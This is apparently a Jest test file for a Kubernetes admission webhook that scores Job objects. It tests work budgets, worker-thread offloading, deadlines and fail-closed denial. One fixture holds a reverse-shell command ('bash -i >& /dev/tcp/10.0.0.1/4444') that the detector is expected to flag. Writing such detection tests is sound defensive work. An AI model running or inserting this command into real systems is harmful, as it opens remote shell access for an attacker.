/**
 * CPU fairness (server/analysis.ts): a review's analysis is bounded by a work budget, light reviews
 * are answered on the event loop, heavy ones on a worker thread within a deadline, and whatever
 * cannot be analysed in time fails closed. The pool's logic runs here with in-process scorers (jest
 * cannot start a worker thread from a .ts file); the last test starts a real worker from a bundle
 * of the module built for it.
 */
import { afterAll, describe, expect, it } from '@jest/globals';
import { build } from 'esbuild';
import { mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { performance } from 'node:perf_hooks';
import { fileURLToPath, pathToFileURL } from 'node:url';
import { handleReview, reviewedObject } from '../src/admission/review.js';
import { admissionReviewSchema, type AdmissionReviewRequest } from '../src/admission/schema.js';
import { assess, scoreObject } from '../src/engine.js';
import {
  Analysis,
  INLINE_BUDGET,
  ScorerDied,
  threadScorer,
  type Analysed,
  type Scorer,
  type ScoreJob,
} from '../src/server/analysis.js';
import { createMetrics } from '../src/server/metrics.js';
import type { Score } from '../src/scoring/types.js';
import { DEFAULT_BUDGET } from '../src/workload/execution.js';
import type { KubeObject } from '../src/workload/types.js';
import { loadCorpus } from './corpus/load.js';
import { engineFor, makeReview, testApp } from './support/review.js';

/** A realistic maintenance script of `bytes` characters (as bench/hostile.mjs builds them). */
function script(bytes: number, seed: number): string {
  const lines = [
    'set -eu',
    'for ns in $(kubectl get ns -o name | cut -d/ -f2); do',
    '  kubectl get pods -n "$ns" --field-selector=status.phase==Succeeded -o name | xargs -r kubectl delete -n "$ns"',
    'done',
    `curl -fsS --max-time 5 "http://api-${seed}.default.svc:8080/healthz" || echo "api ${seed} unhealthy" >&2`,
    `find /data/${seed} -name '*.tmp' -mtime +2 -print0 | xargs -0 -r rm -f`,
    `tar czf /backup/${seed}-$(date +%Y%m%d).tgz -C /data/${seed} . && echo "backup ${seed} done"`,
  ];
  let out = '';
  for (let i = 0; out.length < bytes; i++) out += `${lines[i % lines.length]}\n`;
  return out.slice(0, bytes);
}

function job(containers: Record<string, unknown>[]): KubeObject {
  return {
    apiVersion: 'batch/v1',
    kind: 'Job',
    metadata: { name: 'nightly', namespace: 'reports' },
    spec: { template: { spec: { restartPolicy: 'Never', containers } } },
  };
}

/** `count` containers of 14,000-character scripts; 36 is the heaviest object under the analysis limits. */
function heavyJob(count: number, extra: Record<string, unknown>[] = []): KubeObject {
  return job([
    ...Array.from({ length: count }, (_, i) => ({
      name: `c${i}`,
      image: `registry.example.com/ops/tool-${i}:1.0`,
      command: ['/bin/sh', '-c', script(14_000, i)],
    })),
    ...extra,
  ]);
}

const REVERSE_SHELL = {
  name: 'r',
  image: 'busybox:1.36',
  command: ['sh', '-c', 'bash -i >& /dev/tcp/10.0.0.1/4444 0>&1'],
};

const LIGHT = job([{ name: 'backup', image: 'postgres:16', command: ['pg_dump', '-f', '/backup/db.sql'] }]);

function review(object: KubeObject, namespace = 'reports'): AdmissionReviewRequest {
  return admissionReviewSchema.parse(makeReview(object, { namespace }));
}

const engine = engineFor({ mode: 'enforce' });
const now = new Date('2026-11-27T12:00:00Z');

/** A scorer that scores in-process, counting its jobs; `hold` keeps each job open until released. */
function inProcess(options: { hold?: boolean } = {}) {
  const jobs: ScoreJob[] = [];
  const held: (() => void)[] = [];
  let started = 0;
  let terminated = 0;
  const start = (): Scorer => {
    started++;
    return {
      score(job) {
        jobs.push(job);
        const run = (): Score | undefined =>
          scoreObject(engineFor(job.policy), job.object, { left: job.budget });
        if (!options.hold) return Promise.resolve(run());
        return new Promise((resolve) =>
          held.push(() => {
            resolve(run());
          }),
        );
      },
      terminate() {
        terminated++;
      },
    };
  };
  return {
    start,
    jobs,
    held,
    started: () => started,
    terminated: () => terminated,
  };
}

function rules(analysed: Analysed): string[] {
  if ('unanalysed' in analysed) throw new Error(`not analysed: ${analysed.unanalysed}`);
  return (analysed.outcome.decision?.findings ?? []).map((f) => f.rule);
}

describe('the work budget of one review', () => {
  it('stops the heaviest object under the analysis limits, which then fails closed', () => {
    // Before the budget was per object and calibrated (8,000,000 units per pod template), this
    // object was analysed to the end: 250 ms of CPU on one thread for each copy an attacker sent.
    const assessment = assess(engine, heavyJob(36), { now });
    const incomplete = assessment?.decision.findings.find((f) => f.rule === 'analysis-incomplete');
    expect(incomplete?.detail).toContain('analysis budget exhausted');
    expect(assessment?.decision.action).toBe('deny');
  });

  it('is shared by all the containers of the object, and the caller can read what is left', () => {
    const budget = { left: DEFAULT_BUDGET };
    assess(engine, heavyJob(2), { now, budget });
    const two = DEFAULT_BUDGET - budget.left;
    const one = { left: DEFAULT_BUDGET };
    assess(engine, heavyJob(1), { now, budget: one });
    expect(two).toBeGreaterThan(1.8 * (DEFAULT_BUDGET - one.left));
  });

  it('is far above what any object of the corpus spends, inline budget included', () => {
    let most = 0;
    for (const entry of loadCorpus()) {
      const budget = { left: DEFAULT_BUDGET };
      assess(engine, entry.object, { now, budget });
      most = Math.max(most, DEFAULT_BUDGET - budget.left);
    }
    expect(most).toBeGreaterThan(0);
    expect(most).toBeLessThan(INLINE_BUDGET / 10);
  });
});

describe('Analysis', () => {
  it('answers a light review on the event loop, without starting a worker', () => {
    const scorers = inProcess();
    const analysis = new Analysis({ workers: 1, deadlineMs: 1000 }, scorers.start);
    const analysed = analysis.review(review(LIGHT), { engine, now });
    expect(analysed).not.toBeInstanceOf(Promise);
    expect(scorers.started()).toBe(0);
    expect(analysed).toEqual(handleReview(review(LIGHT), { engine, now }));
  });

  it('moves a review that spends the inline budget to a worker, which decides as inline analysis would', async () => {
    const scorers = inProcess();
    const metrics = createMetrics({ processMetrics: false });
    const analysis = new Analysis({ workers: 1, deadlineMs: 5000 }, scorers.start, metrics);
    const heavy = heavyJob(4, [REVERSE_SHELL]);
    const analysed = analysis.review(review(heavy), { engine, now });
    expect(analysed).toBeInstanceOf(Promise);
    const answer = await analysed;
    expect(scorers.jobs).toHaveLength(1);
    expect(scorers.jobs[0]?.budget).toBe(DEFAULT_BUDGET);
    expect(scorers.jobs[0]?.object).toEqual(reviewedObject(heavy, 'Job'));
    // The job crosses a thread boundary: it must survive structured cloning.
    expect(structuredClone(scorers.jobs[0])).toEqual(scorers.jobs[0]);
    expect(answer).toEqual(handleReview(review(heavy), { engine, now }));
    expect(rules(answer)).toContain('reverse-shell');
    expect(await metrics.registry.getSingleMetricAsString('jobguard_analysis_offloaded_total')).toContain(
      'result="scored"} 1',
    );
  });

  it('starts a worker on the first heavy review, stops it when idle, and starts another for the next', async () => {
    const scorers = inProcess();
    const analysis = new Analysis({ workers: 1, deadlineMs: 5000, idleMs: 300 }, scorers.start);
    expect(scorers.started()).toBe(0);
    await analysis.review(review(heavyJob(2)), { engine, now });
    await analysis.review(review(heavyJob(2)), { engine, now });
    // Back to back: the same worker.
    expect([scorers.started(), scorers.terminated()]).toEqual([1, 0]);
    await new Promise((resolve) => setTimeout(resolve, 700));
    expect(scorers.terminated()).toBe(1);
    const again = await analysis.review(review(heavyJob(2, [REVERSE_SHELL])), { engine, now });
    expect(rules(again)).toContain('reverse-shell');
    expect(scorers.started()).toBe(2);
    analysis.close();
    expect(scorers.terminated()).toBe(2);
  });

  it('keeps a worker that gets work before its idle time is up', async () => {
    const scorers = inProcess();
    const analysis = new Analysis({ workers: 1, deadlineMs: 5000, idleMs: 600 }, scorers.start);
    for (let i = 0; i < 4; i++) {
      await analysis.review(review(heavyJob(2)), { engine, now });
      await new Promise((resolve) => setTimeout(resolve, 250));
    }
    expect([scorers.started(), scorers.terminated()]).toEqual([1, 0]);
    analysis.close();
  });

  it('with no workers, analyses every review inline with the full budget', () => {
    const scorers = inProcess();
    const analysis = new Analysis({ workers: 0, deadlineMs: 1000 }, scorers.start);
    const analysed = analysis.review(review(heavyJob(4, [REVERSE_SHELL])), { engine, now });
    expect(analysed).not.toBeInstanceOf(Promise);
    expect(rules(analysed as Analysed)).toContain('reverse-shell');
    expect(rules(analysed as Analysed)).not.toContain('analysis-incomplete');
    expect(scorers.started()).toBe(0);
  });

  it('answers a heavy review not finished by the deadline as not analysed, and replaces the worker', async () => {
    const scorers = inProcess({ hold: true });
    const metrics = createMetrics({ processMetrics: false });
    const analysis = new Analysis({ workers: 1, deadlineMs: 50 }, scorers.start, metrics);
    const late = await analysis.review(review(heavyJob(2)), { engine, now });
    expect(late).toEqual({ unanalysed: 'its analysis took longer than 50 ms' });
    expect(scorers.terminated()).toBe(1);
    // The next heavy review gets a fresh worker.
    const next = analysis.review(review(heavyJob(2)), { engine, now });
    expect(scorers.started()).toBe(2);
    scorers.held[1]?.();
    expect(rules(await next)).toContain('network-client');
    expect(await metrics.registry.getSingleMetricAsString('jobguard_analysis_offloaded_total')).toContain(
      'result="deadline"} 1',
    );
  });

  it('counts the wait in the queue towards the deadline', async () => {
    const scorers = inProcess({ hold: true });
    const analysis = new Analysis({ workers: 1, deadlineMs: 500 }, scorers.start);
    const first = analysis.review(review(heavyJob(2)), { engine, now });
    await new Promise((resolve) => setTimeout(resolve, 250));
    const second = analysis.review(review(heavyJob(2)), { engine, now });
    const queued = performance.now();
    // The second waits ~250 ms for the worker, which the first holds to its deadline; it then has
    // only the rest of its own 500 ms, not 500 ms more (that would answer it ~750 ms after it came).
    expect(await first).toEqual({ unanalysed: 'its analysis took longer than 500 ms' });
    expect(await second).toEqual({ unanalysed: 'its analysis took longer than 500 ms' });
    expect(performance.now() - queued).toBeLessThan(650);
    expect(scorers.jobs).toHaveLength(2);
  });

  it('answers a heavy review that finds the queue full as not analysed, at once', async () => {
    const scorers = inProcess({ hold: true });
    const metrics = createMetrics({ processMetrics: false });
    const analysis = new Analysis({ workers: 1, deadlineMs: 5000, queue: 2 }, scorers.start, metrics);
    const running = analysis.review(review(heavyJob(2)), { engine, now });
    const waiting = [1, 2].map(() => analysis.review(review(heavyJob(2)), { engine, now }));
    expect(await analysis.review(review(heavyJob(2)), { engine, now })).toEqual({
      unanalysed: 'too many heavy objects are waiting for analysis',
    });
    for (let i = 0; i < 3; i++) {
      await new Promise((resolve) => setTimeout(resolve, 0));
      scorers.held[i]?.();
    }
    for (const pending of [running, ...waiting]) expect(rules(await pending)).toContain('network-client');
    expect(await metrics.registry.getSingleMetricAsString('jobguard_analysis_offloaded_total')).toContain(
      'result="queue_full"} 1',
    );
  });

  it('fails closed when the worker dies, and rejects (onError decides) when the scoring threw', async () => {
    let calls = 0;
    const analysis = new Analysis({ workers: 1, deadlineMs: 5000 }, () => ({
      score: () =>
        calls++ === 0 ? Promise.reject(new ScorerDied('out of memory')) : Promise.reject(new Error('a bug')),
      terminate: () => undefined,
    }));
    expect(await analysis.review(review(heavyJob(2)), { engine, now })).toEqual({
      unanalysed: 'its analysis failed (out of memory)',
    });
    await expect(analysis.review(review(heavyJob(2)), { engine, now })).rejects.toThrow('a bug');
  });

  it('answers heavy reviews running or waiting at close as not analysed', async () => {
    const scorers = inProcess({ hold: true });
    const analysis = new Analysis({ workers: 1, deadlineMs: 5000 }, scorers.start);
    const running = analysis.review(review(heavyJob(2)), { engine, now });
    const waiting = analysis.review(review(heavyJob(2)), { engine, now });
    analysis.close();
    expect(await running).toEqual({ unanalysed: 'jobguard is shutting down' });
    expect(await waiting).toEqual({ unanalysed: 'jobguard is shutting down' });
    expect(scorers.terminated()).toBe(1);
  });
});

describe('the webhook with analysis workers', () => {
  it('denies a heavy review past the deadline in enforce mode, naming the limit, and warns in warn mode', async () => {
    const hanging = (): Scorer => ({ score: () => new Promise(() => undefined), terminate: () => undefined });
    for (const [mode, allowed] of [
      ['enforce', false],
      ['warn', true],
    ] as const) {
      const { app, metrics } = testApp(
        { mode },
        { analysis: new Analysis({ workers: 1, deadlineMs: 30 }, hanging) },
      );
      const res = await app.inject({
        method: 'POST',
        url: '/validate',
        payload: makeReview(heavyJob(2)),
      });
      const { response } = res.json<{
        response: { allowed: boolean; status?: { message: string }; warnings?: string[] };
      }>();
      expect(response.allowed).toBe(allowed);
      const said = allowed ? (response.warnings ?? []).join(' ') : (response.status?.message ?? '');
      expect(said).toContain('its analysis took longer than 30 ms');
      expect(await metrics.registry.getSingleMetricAsString('jobguard_errors_total')).toContain(
        'kind="unanalysed"} 1',
      );
      await app.close();
    }
  });

  it('answers light reviews while a heavy one is on a worker', async () => {
    const scorers = inProcess({ hold: true });
    const { app } = testApp(
      { mode: 'enforce' },
      { analysis: new Analysis({ workers: 1, deadlineMs: 5000 }, scorers.start) },
    );
    const heavy = app.inject({
      method: 'POST',
      url: '/validate',
      payload: makeReview(heavyJob(2, [REVERSE_SHELL])),
    });
    let heavyDone = false;
    void heavy.then(() => (heavyDone = true));
    const light = await app.inject({
      method: 'POST',
      url: '/validate',
      payload: makeReview(LIGHT),
    });
    expect(light.json<{ response: { allowed: boolean } }>().response.allowed).toBe(true);
    expect(heavyDone).toBe(false);
    while (scorers.held.length === 0) await new Promise((resolve) => setTimeout(resolve, 5));
    scorers.held[0]?.();
    expect((await heavy).json<{ response: { allowed: boolean } }>().response.allowed).toBe(false);
    await app.close();
  });
});

describe('a real worker thread', () => {
  const dir = mkdtempSync(join(tmpdir(), 'jobguard-worker-'));
  afterAll(() => {
    rmSync(dir, { recursive: true, force: true });
  });

  it('scores from a one-file bundle of the module, as the image runs it', async () => {
    const outfile = join(dir, 'analysis.mjs');
    await build({
      entryPoints: [fileURLToPath(new URL('../src/server/analysis.ts', import.meta.url))],
      outfile,
      bundle: true,
      platform: 'node',
      format: 'esm',
      banner: {
        js: "import { createRequire } from 'node:module'; const require = createRequire(import.meta.url);",
      },
      logLevel: 'error',
    });
    const analysis = new Analysis({ workers: 1, deadlineMs: 20_000 }, () =>
      threadScorer(pathToFileURL(outfile)),
    );
    const heavy = heavyJob(4, [REVERSE_SHELL]);
    const answer = await analysis.review(review(heavy), { engine, now });
    expect(answer).toEqual(handleReview(review(heavy), { engine, now }));
    expect(rules(answer)).toContain('reverse-shell');
    analysis.close();
  });
});
